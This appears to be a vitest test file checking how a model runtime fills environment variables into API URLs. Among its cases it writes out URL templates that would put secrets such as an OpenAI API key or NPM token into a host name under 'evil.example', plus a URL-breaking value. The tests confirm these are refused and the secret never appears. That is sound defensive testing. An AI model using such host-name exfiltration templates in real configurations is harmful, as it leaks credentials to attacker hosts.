import { describe, expect, test } from "vitest";
import { createRuntime } from "../../src/runtime/index.js";
import { hello, manifestOf, modelOf, run } from "../support/manifest.js";
import { startServer } from "../support/server.js";

describe("addresses with variables, left by emit --defer", () => {
  test.each(["", "/", "/v1", "/llm/v1/"])(
    "a variable may hold the whole address, with its path or without: %s",
    async (path) => {
      const server = await startServer((_request, response) => void response.writeHead(400).end());
      const deferred = modelOf({
        wire: "openai-chat",
        url: "https://{env:GATEWAY}/v1/chat/completions",
      });
      deferred.auth.hosts = ["{env:GATEWAY}"];
      await run(deferred, hello, { env: { TEST_KEY: "k", GATEWAY: `${server.url}${path}` } });
      const prefix = path.startsWith("/llm") ? "/llm" : "";
      expect(server.received.map((it) => it.path)).toEqual([`${prefix}/v1/chat/completions`]);
    },
  );

  test.each([
    ["127.0.0.1:1", "a host"],
    ["https://127.0.0.1:1/", "a host with a scheme and a slash"],
  ])("%s fills %s", async (value) => {
    const deferred = modelOf({
      wire: "openai-chat",
      url: "https://{env:WORKSPACE}/serving/{env:PATH_PART}",
    });
    deferred.auth.hosts = ["{env:WORKSPACE}"];
    const paths: string[] = [];
    const http = {
      request: async ({ url }: { url: string | URL }) => {
        paths.push(String(url));
        throw new Error("no more is needed");
      },
      close: async () => {},
    };
    await run(deferred, hello, {
      env: { TEST_KEY: "k", WORKSPACE: value, PATH_PART: "my_model" },
      http,
    });
    expect(paths).toEqual(["https://127.0.0.1:1/serving/my_model"]);
  });

  test.each([
    ["a key in the host name", "OPENAI_API_KEY", "egress_refused"],
    ["any secret by its name", "NPM_TOKEN", "egress_refused"],
    ["a variable that is not set", "UNSET", "bad_base_url"],
    ["a value that breaks out", "BREAKOUT", "bad_base_url"],
  ])("%s is refused", async (_what, name, reason) => {
    const deferred = modelOf({ wire: "openai-chat", url: `https://{env:${name}}.evil.example/` });
    deferred.auth.hosts = ["*.evil.example"];
    const env = {
      TEST_KEY: "k",
      OPENAI_API_KEY: "hunter2",
      NPM_TOKEN: "hunter2",
      BREAKOUT: "a@b?#",
    };
    const events = await run(deferred, hello, { env });
    expect(events).toMatchObject([{ type: "error", reason }]);
    expect(JSON.stringify(events)).not.toContain("hunter2");
  });

  test("underscores of an account name are dashes in its host name", () => {
    const url =
      "https://{env:SNOWFLAKE_ACCOUNT}.snowflakecomputing.com/api/v2/cortex/v1/chat/completions";
    const deferred = modelOf({ wire: "openai-chat", url });
    deferred.auth.hosts = ["{env:SNOWFLAKE_ACCOUNT}.snowflakecomputing.com"];
    const runtime = createRuntime(manifestOf({ m: deferred }), {
      env: { SNOWFLAKE_ACCOUNT: "my_org-acct" },
    });
    expect(new URL(runtime.preview(hello).url).host).toBe("my-org-acct.snowflakecomputing.com");
  });
});
